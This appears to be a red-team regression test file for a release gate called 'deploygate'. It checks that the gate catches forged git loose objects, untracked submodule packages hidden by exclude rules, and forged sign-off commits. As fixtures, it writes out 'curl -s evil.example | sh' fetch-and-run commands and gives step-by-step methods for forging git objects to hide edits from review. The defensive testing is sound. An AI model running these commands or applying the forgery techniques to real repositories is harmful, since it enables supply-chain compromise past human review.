"""rt17c A01, A02, A07: what the dirty check reads from an object store must be what the
commit's id says, and an untracked file in a submodule must not hide behind an exclude.

A01/A02: ``git read-tree <commit>`` hashes the commit and its root tree but not the subtrees
it reads into an index: a loose object overwritten under a reviewed subtree's id (listing an
edited file's blob), in a submodule's store (A01) or the superproject's own (A02), hid the
edit. A07: an untracked package in a submodule, beside an untracked ``.gitignore`` of ``*``
(or listed in the submodule's ``info/exclude``), was not seen. Gate dirty=false, verdict 0.

Real release repositories (examples/release_repo.py) with a real submodule in the first,
signed-off commit; objects forged as git writes them (zlib, ``.git/objects/xx/yyyy``); the
gate via pytest, ``deploygate verdict`` via the CLI.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from test_attack_rt12a import gate, git, verdict

from conftest import release_repo_script

EDIT = 'import os\ndef handler():\n    os.system("curl -s evil.example | sh")\n    return "ok"\n'


def _library(folder: Path) -> Path:
    """A library repository with its code one folder down (``pkg/lib.py``: a subtree), its
    Python files under the ``text`` attribute."""
    (folder / "pkg").mkdir(parents=True)
    git(folder, "init", "-q")
    (folder / "pkg" / "lib.py").write_text('def handler():\n    return "ok"\n')
    (folder / ".gitignore").write_text("__pycache__\n.pytest_cache/\n")
    (folder / ".gitattributes").write_text("*.py text\n")
    git(folder, "add", ".")
    git(folder, "commit", "-qm", "library")
    return folder


def _release(tmp_path: Path, *, submodule: bool = True) -> Path:
    """The example release, with the submodule ``vendor/lib`` in its first commit (so the
    sign-offs cover it) when ``submodule``, checked out as committed."""
    module = release_repo_script("release_repo_rt17c_object_store")
    if submodule:
        library = _library(tmp_path / "library")
        plain = module.Repo.commit
        first = [True]

        def commit(self: object, paths: list[str], message: str, *, who: str, at: str) -> None:
            if first[0]:
                first[0] = False
                self.run("-c", "protocol.file.allow=always",  # type: ignore[attr-defined]
                         "submodule", "add", "-q", str(library), "vendor/lib", who=who, at=at)
            plain(self, paths, message, who=who, at=at)

        module.Repo.commit = commit
    root: Path = module.materialise(tmp_path / "acme-api")
    return root


def _dirty(root: Path) -> bool:
    text = (root / "gate-records" / "GATE-12.xml").read_text()
    return 'deploygate.dirty" value="true"' in text


def _forge_subtree(repository: Path, folder: str) -> None:
    """Overwrite the loose object of HEAD's tree ``folder`` in ``repository``'s object store
    with a tree of the same names whose blobs are the work-tree files as they are now."""
    objects = Path(git(repository, "rev-parse", "--path-format=absolute", "--git-path",
                       "objects").strip())
    tree = git(repository, "rev-parse", f"HEAD:{folder}").strip()
    body = b""
    for line in git(repository, "ls-tree", "-z", tree).split("\0"):
        if not line:
            continue
        meta, _, name = line.partition("\t")
        mode, kind, object_id = meta.split(" ")
        if kind == "blob":
            object_id = git(repository, "hash-object", "-w", f"{folder}/{name}").strip()
        body += f"{mode} {name}".encode() + b"\0" + bytes.fromhex(object_id)
    loose = objects / tree[:2] / tree[2:]
    assert loose.is_file(), "the test needs the tree as a loose object"
    loose.chmod(0o644)
    loose.write_bytes(zlib.compress(b"tree %d\0" % len(body) + body))


def _refused(root: Path, shown: str) -> None:
    gate(root)
    assert _dirty(root)
    done = verdict(root)
    assert done.returncode == 4, done.stdout + done.stderr
    assert shown in done.stderr, done.stderr


def test_a_forged_subtree_in_a_submodule_store_is_uncommitted(tmp_path: Path) -> None:
    """A01."""
    root = _release(tmp_path)
    library = root / "vendor" / "lib"
    (library / "pkg" / "lib.py").write_text(EDIT)
    _forge_subtree(library, "pkg")
    _refused(root, "uncommitted changes to release content (vendor/lib)")


def test_a_forged_subtree_in_the_superproject_store_is_uncommitted(tmp_path: Path) -> None:
    """A02: one line naming the object store and git fsck."""
    root = _release(tmp_path, submodule=False)
    notes = root / "docs" / "deployment" / "production" / "release-notes.md"
    notes.write_text(notes.read_text() + "- Rollback plan: none. (added after review)\n")
    _forge_subtree(root, "docs/deployment/production")
    _refused(root, "object store does not hold the tree HEAD names")
    assert "git fsck" in verdict(root).stderr


def _gitignore_of_all(package: Path, library: Path) -> None:
    (package / ".gitignore").write_text("*\n")


def _info_exclude(package: Path, library: Path) -> None:
    exclude = Path(git(library, "rev-parse", "--path-format=absolute", "--git-path",
                       "info/exclude").strip())
    exclude.parent.mkdir(parents=True, exist_ok=True)
    exclude.write_text("pkg/lib/\n")


def _excluded_folder_with_gitignore_of_all(package: Path, library: Path) -> None:
    # (The folder named in info/exclude, so a look that read it would call the untracked
    # .gitignore one in an ignored folder, like a tool cache's.)
    _info_exclude(package, library)
    (package / ".gitignore").write_text("*\n")
    exclude = Path(git(library, "rev-parse", "--path-format=absolute", "--git-path",
                       "info/exclude").strip())
    exclude.write_text("pkg/lib\n")


@pytest.mark.parametrize("hide", [_gitignore_of_all, _info_exclude,
                                  _excluded_folder_with_gitignore_of_all],
                         ids=["untracked .gitignore", "info/exclude",
                              "info/exclude and .gitignore"])
def test_an_untracked_file_in_a_submodule_hidden_by_an_exclude_is_uncommitted(
        tmp_path: Path, hide: Callable[[Path, Path], None]) -> None:
    """A07: a package ``pkg/lib/`` that Python imports in place of the reviewed pkg/lib.py."""
    root = _release(tmp_path)
    library = root / "vendor" / "lib"
    package = library / "pkg" / "lib"
    package.mkdir()
    (package / "__init__.py").write_text(EDIT)
    hide(package, library)
    _refused(root, "uncommitted changes to release content (vendor/lib)")


def test_files_the_submodule_commit_ignores_stay_clean(tmp_path: Path) -> None:
    """No false refusal: what the pinned commit's own .gitignore ignores (__pycache__ of an
    honest run) is no change; the honest release passes, submodule and all."""
    root = _release(tmp_path)
    cache = root / "vendor" / "lib" / "pkg" / "__pycache__"
    cache.mkdir()
    (cache / "lib.cpython-311.pyc").write_bytes(b"\0")
    done = gate(root)
    assert done.returncode == 0, done.stdout + done.stderr
    assert not _dirty(root)
    assert verdict(root).returncode == 0


def _rewrite(root: Path, object_id: str, kind: str, edit: Callable[[bytes], bytes]) -> None:
    """Overwrite the loose object ``object_id`` with ``edit`` of its bytes, kept its id."""
    body = edit(git(root, "cat-file", kind, object_id).encode())
    loose = root / ".git" / "objects" / object_id[:2] / object_id[2:]
    loose.chmod(0o644)
    loose.write_bytes(zlib.compress(f"{kind} {len(body)}".encode() + b"\0" + body))


def _sign_off_commit(root: Path) -> None:
    """A sign-off's commit object (read for who signed off, and when) one second later."""
    commit = git(root, "log", "-1", "--format=%H", "--grep=critical-functionality-verified"
                 ).strip()

    def later(body: bytes) -> bytes:
        head, _, rest = body.partition(b"\nauthor ")
        person, _, tail = rest.partition(b"> ")
        stamp, _, zone = tail.partition(b" ")
        return head + b"\nauthor " + person + b"> " + str(int(stamp) + 1).encode() + b" " + zone

    _rewrite(root, commit, "commit", later)


def _committed_config(root: Path) -> None:
    """HEAD's deploygate.yaml blob (read for the sign-off log's names in history)."""
    _rewrite(root, git(root, "rev-parse", "HEAD:deploygate.yaml").strip(), "blob",
             lambda body: body + b"# not what was committed\n")


@pytest.mark.parametrize("forge", [_sign_off_commit, _committed_config],
                         ids=["sign-off commit", "committed deploygate.yaml"])
def test_committed_bytes_read_from_the_store_are_checked_against_their_id(
        tmp_path: Path, forge: Callable[[Path], None]) -> None:
    """``git cat-file`` prints whatever the store holds under an id: the gate hashes it, and
    a forged object fails closed in one line naming git fsck."""
    root = _release(tmp_path, submodule=False)
    forge(root)
    done = gate(root)
    assert done.returncode != 0, done.stdout + done.stderr
    assert "(a corrupt or forged object); run git fsck" in done.stdout, done.stdout
    assert verdict(root).returncode != 0


def test_a_forged_blob_read_for_a_converted_file_is_uncommitted(tmp_path: Path) -> None:
    """A file under a converting attribute is compared with what checking its blob out
    writes (``git cat-file --filters``, which prints the store's bytes unhashed): the blob
    overwritten with the edited bytes (carriage returns, which the ``text`` attribute's clean
    conversion drops, so git diff sees nothing) made the edit match."""
    root = _release(tmp_path)
    library = root / "vendor" / "lib"
    edited = b'def handler():\r\n    return "ok"\r\n'
    (library / "pkg" / "lib.py").write_bytes(edited)
    blob = git(library, "rev-parse", "HEAD:pkg/lib.py").strip()
    objects = Path(git(library, "rev-parse", "--path-format=absolute", "--git-path",
                       "objects").strip())
    loose = objects / blob[:2] / blob[2:]
    loose.chmod(0o644)
    loose.write_bytes(zlib.compress(b"blob %d\0" % len(edited) + edited))
    _refused(root, "uncommitted changes to release content (vendor/lib)")


def test_a_tool_cache_the_submodule_commit_ignores_stays_clean(tmp_path: Path) -> None:
    """No false refusal: an honest test run inside the submodule leaves ``.pytest_cache/``
    with the ``.gitignore`` of ``*`` pytest writes into it; the pinned commit's own
    .gitignore ignores that folder, so the file hides nothing the commit does not."""
    root = _release(tmp_path)
    cache = root / "vendor" / "lib" / ".pytest_cache"
    (cache / "v" / "cache").mkdir(parents=True)
    (cache / ".gitignore").write_text("# Created by pytest automatically.\n*\n")
    (cache / "v" / "cache" / "lastfailed").write_text("{}\n")
    done = gate(root)
    assert done.returncode == 0, done.stdout + done.stderr
    assert not _dirty(root)
    assert verdict(root).returncode == 0


def test_a_tool_cache_the_submodule_commit_does_not_ignore_is_a_change(tmp_path: Path) -> None:
    """A folder with its own untracked ``.gitignore`` that the commit's rules do not ignore
    (``.mypy_cache/``, not in the library's .gitignore) could hold anything: a change."""
    root = _release(tmp_path)
    cache = root / "vendor" / "lib" / ".mypy_cache"
    cache.mkdir()
    (cache / ".gitignore").write_text("*\n")
    _refused(root, "uncommitted changes to release content (vendor/lib)")


def test_a_folder_named_like_pathspec_magic_is_asked_about_literally(tmp_path: Path) -> None:
    """rt18b A03: check-ignore read the folder name ``:(top)__pycache__`` as a pathspec,
    answered for ``__pycache__`` (which the commit ignores) and echoed the name back: the
    untracked folder, hidden by its own ``.gitignore`` of ``*``, passed."""
    root = _release(tmp_path)
    folder = root / "vendor" / "lib" / ":(top)__pycache__"
    folder.mkdir()
    (folder / ".gitignore").write_text("*\n")
    (folder / "entrypoint.sh").write_text("curl -s evil.example | sh\n")
    _refused(root, "uncommitted changes to release content (vendor/lib)")
